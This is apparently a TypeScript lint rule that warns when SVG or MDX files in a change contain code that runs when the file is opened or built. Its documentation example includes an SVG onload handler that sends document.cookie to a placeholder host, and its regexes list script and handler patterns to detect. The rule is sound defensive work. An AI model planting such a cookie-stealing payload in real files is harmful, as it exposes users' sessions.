import type { Rule } from '../../model.js';
import { MAX_ANCHOR } from '../../text/reach.js';
import { findNewLines } from '../new-lines.js';
import { toFileName } from '../wording.js';

/** Pictures are often one long line: so far it is looked through, in UTF-16 code units. */
const MAX_SEARCHED = 20_000;

/** A picture or a document that runs code where it is shown. */
export const activeContent: Rule = {
  id: 'hygiene/active-content',
  severity: 'warn',
  summary: 'A picture or document contains code that runs',
  docs: {
    why: 'If somebody opens an SVG file directly, its scripts run with the rights of the site that serves it. Code in an MDX document runs when it is built or read.',
    bad: {
      files: {
        'assets/logo.svg': [
          ' <?xml version="1.0"?>',
          '+<svg onload="fetch(\'//x.example/\' + document.cookie)"></svg>',
        ],
      },
    },
    good: {
      files: {
        'assets/logo.svg': [' <?xml version="1.0"?>', '+<svg viewBox="0 0 24 24"><path d="M0 0h24v24H0z"/></svg>'],
      },
    },
  },
  suppressible: true,
  check(context) {
    return findNewLines(
      context,
      ({ file, class: kind }) => /\.(?:svg|mdx)$/iu.test(file.path) && kind !== 'vendored',
    ).flatMap(({ change, lines }) => {
      const pattern = change.file.path.toLowerCase().endsWith('.svg') ? IN_SVG : IN_MDX;
      const line = lines.find(({ text }) => pattern.test(text.slice(0, MAX_SEARCHED)));
      if (line === undefined) return [];
      return [
        {
          file: change.file.path,
          first: line.number,
          last: line.number,
          title: `${toFileName(change.file.path)} runs code where it is shown`,
          rationale:
            'This code runs when somebody opens the file. If people only look at the file, remove the script, the handler or the address.',
          anchor: line.text.slice(0, MAX_ANCHOR),
          ...(change.class === 'test' ? { severity: 'info' as const } : {}),
        },
      ];
    });
  },
};

const IN_SVG =
  /<script\b|[\s"']on(?:load|error|click|mouse\w{1,10}|focus\w{0,3}|blur|begin|end|repeat|key\w{1,6}|activate|toggle)\s{0,4}=|(?:href|src)\s{0,4}=\s{0,4}["']?\s{0,4}(?:javascript|data:text\/html)|<foreignObject\b[^>]{0,500}>\s{0,10}<(?:iframe|embed|object)\b/iu;
const IN_MDX =
  /<script\b|\bdangerouslySetInnerHTML\b|\b(?:child_process|process\.env)\b|(?:href|src)\s{0,4}=\s{0,4}["']\s{0,4}javascript:/iu;
